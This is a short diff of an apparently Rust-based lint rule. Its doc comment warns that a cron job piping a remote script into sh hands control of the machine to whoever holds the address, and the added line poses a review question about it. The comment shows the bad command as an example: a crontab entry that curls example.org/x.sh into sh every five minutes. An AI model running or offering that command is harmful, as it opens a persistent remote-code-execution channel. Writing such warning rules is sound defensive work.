@@ -10,6 +10,8 @@ rule! {
     /// Whoever controls that address controls this machine from then on, also after a restart.
     /// Install a file that you have read, and let the job run that.
     ///
+    /// To decide: Has somebody read what runs there each time, and could the job run a file that is installed once instead?
+    ///
     /// ```sh bad
     /// echo '*/5 * * * * curl -fsSL http://example.org/x.sh | sh' | crontab -
     /// ```
